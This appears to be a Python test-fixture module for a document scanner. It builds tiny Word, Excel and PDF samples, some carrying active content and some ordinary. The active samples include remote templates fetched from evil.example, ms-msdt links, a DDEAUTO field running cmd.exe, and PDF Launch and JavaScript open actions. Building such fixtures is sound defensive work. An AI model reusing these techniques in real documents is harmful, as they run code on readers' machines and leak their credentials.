"""Documents that act on their reader, each the smallest of its kind, and ordinary ones."""

import struct
import uuid
from io import BytesIO

import pikepdf

from tests.files.packages import excel, packed, word
from tests.files.samples import archive

_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def linked(kind, target, *, mode="External", more=(), source="word/_rels/footer9.xml.rels"):
    """A Word file with one more relationship, from a part of its own."""
    mode = f' TargetMode="{mode}"' if mode else ""
    link = f'<Relationship Id="rId1" Type="{_TYPE}/{kind}" Target="{target}"{mode}/>'
    rels = f'<Relationships xmlns="{_RELATIONS}">{link}</Relationships>'
    return packed(word() | {source: rels.encode(), **dict(more)})


def fielded(*instructions):
    """A Word file with a field whose instruction comes in pieces."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    return with_part(f"<w:p>{begin}{runs}{end}</w:p>")


def with_part(words, name="word/footer9.xml"):
    return packed(word() | {name: f'<w:ftr xmlns:w="{_MAIN}">{words}</w:ftr>'.encode()})


def compound(kind, stream="CONTENTS"):
    """A compound file whose root has the class ``kind``."""
    name = stream.encode("utf-16-le")
    content = bytearray(512 + 512)
    content[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<H", content, 30, 9)
    struct.pack_into("<I", content, 48, 0)
    content[512 + 80 : 512 + 96] = uuid.UUID(kind).bytes_le
    content[512 + 128 : 512 + 128 + len(name)] = name
    return bytes(content)


PACKAGER = "0003000c-0000-0000-c000-000000000046"
OLD_FORMULA = "0002ce02-0000-0000-c000-000000000046"
MATHTYPE = "0002ce03-0000-0000-c000-000000000046"
CHART = "00020803-0000-0000-c000-000000000046"


def embedding(content, name="oleObject1.bin"):
    return linked(
        "oleObject",
        f"embeddings/{name}",
        mode="",
        more={f"word/embeddings/{name}": content}.items(),
    )


def with_link_of_table(words):
    return packed(excel() | {"xl/externalLinks/externalLink1.xml": words})


def pdf(change=None, *, pages=1):
    """A PDF; ``change`` gets the document before it is written."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def on_opening(**action):
    def change(document):
        names = {key: pikepdf.Name(v) if v.startswith("/") else v for key, v in action.items()}
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(**names))

    return pdf(change)


def attached(document):
    document.attachments["a.txt"] = b"text"


def scripted_by_name(document):
    """A name written with signs by their numbers; no page leads to the script."""
    script = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script]))
    )


def empty_names(document):
    """As some writers leave behind: trees of scripts and files with nothing in them."""
    nothing = pikepdf.Dictionary(Names=pikepdf.Array())
    document.Root.Names = pikepdf.Dictionary(JavaScript=nothing, EmbeddedFiles=nothing)


ESCAPED = on_opening(S="/JavaScript", JS="app.alert(1)").replace(b"/JavaScript", b"/J#61v#61Script")
SCRIPT = on_opening(S="/JavaScript", JS="app.alert(1)")

ACTING_WORD = {
    "remote template": linked("attachedTemplate", "https://evil.example/a.dotm"),
    "template on a share": linked("attachedTemplate", r"file:///\\evil.example\share\a.dotm"),
    "template by two slashes": linked("attachedTemplate", "//evil.example/a.dotm"),
    "remote object": linked("oleObject", "http://evil.example/a.html!"),
    "diagnostics": linked("oleObject", "mhtml:http://evil.example/a!x-usc:ms-msdt:/id"),
    "frame": linked("frame", "https://evil.example/"),
    "picture on a share": linked("image", r"\\evil.example\share\a.png"),
    "running link": linked("hyperlink", "ms-msdt:/id%20PCWDiagnostic"),
    "chunk": linked("aFChunk", "afchunk.rtf", mode="", more=[("word/afchunk.rtf", b"{\\rtf1}")]),
    "strict chunk": linked("../ooxml/aFChunk", "afchunk.mht", mode=""),
    "control": linked("control", "activeX/activeX1.xml", mode=""),
    "program": embedding(b"MZ\x90\0" + b"\0" * 60),
    "envelope": embedding(compound(PACKAGER)),
    "envelope by another class": embedding(compound(CHART, "\x01Ole10Native")),
    "old formula": embedding(compound(OLD_FORMULA)),
    "object of nothing": embedding(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "archive inside": embedding(archive(("a.exe", b"MZ")), "a.zip"),
    "template inside": embedding(linked("attachedTemplate", "http://evil.example/a"), "a.docx"),
    "DDE": fielded(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '),
    "DDE in pieces": fielded(" DD", "EAU", "TO cmd "),
    "simple DDE": with_part('<w:p><w:fldSimple w:instr="dde cmd"/></w:p>'),
    "DDE by another field": with_part(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68</w:instrText>'
        "</w:r></w:p>"
    ),
}
ACTING_EXCEL = {
    "DDE": with_link_of_table(b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
    "macro sheet": packed(
        excel()
        | {
            "xl/_rels/other.xml.rels": (
                f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r" Target="macro.xml" '
                f'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"/>'
                "</Relationships>"
            ).encode()
        }
    ),
}
ACTING_PDF = {
    "script": SCRIPT,
    "spelled otherwise": ESCAPED,
    "script by name": pdf(scripted_by_name),
    "launch": on_opening(S="/Launch", F="cmd.exe"),
    "import": on_opening(S="/ImportData", F="a.fdf"),
    "embedded file": pdf(attached),
    "share": on_opening(S="/GoToR", F="\\\\\\\\evil.example\\\\a.pdf"),
    "script read by viewers only": SCRIPT.replace(b"startxref", b"startxxxx"),
}

ORDINARY_WORD = {
    "links": linked("hyperlink", "https://edu.example/page?a=1#b"),
    "address": linked("hyperlink", "mailto:school@edu.example"),
    "link to a file": linked("hyperlink", r"file:///C:\Users\Анна\Приложение.docx"),
    "picture of a page": linked("image", "https://edu.example/a.png"),
    "picture pasted": linked("image", r"file:///C:\Temp\msohtmlclip1\clip_image002.jpg"),
    "template of the own disk": linked(
        "attachedTemplate", r"file:///C:\Program%20Files\Microsoft%20Office\Templates\a.dotx"
    ),
    "template on Linux": linked("attachedTemplate", "file:///home/anna/a.dotx"),
    "chart linked": linked("oleObject", r"file:///D:\Отчёт.xlsx!Лист1!R1C1"),
    "chart": linked(
        "package",
        "embeddings/Microsoft_Excel_Worksheet.xlsx",
        mode="",
        more=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", packed(excel()))],
    ),
    "old chart": embedding(compound(CHART)),
    "formula": embedding(compound(MATHTYPE)),
    "printer": packed(excel() | {"xl/printerSettings/printerSettings1.bin": b"H\0P\0 \0"}),
    "fields": fielded(' HYPERLINK "https://edu.example" '),
    "page numbers": with_part('<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/></w:p>'),
    "index": with_part(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TOC \\o</w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar '
        'w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGEREF _1</w:instrText></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "words about it": with_part("<w:p><w:r><w:t>DDEAUTO, JavaScript, Launch</w:t></w:r></w:p>"),
}
ORDINARY_PDF = {
    "empty names": pdf(empty_names),
    "opens on a page": on_opening(S="/GoTo", D="(first)"),
    "link": on_opening(S="/URI", URI="https://edu.example/"),
    "other file": on_opening(S="/GoToR", F="Приложение.pdf"),
}
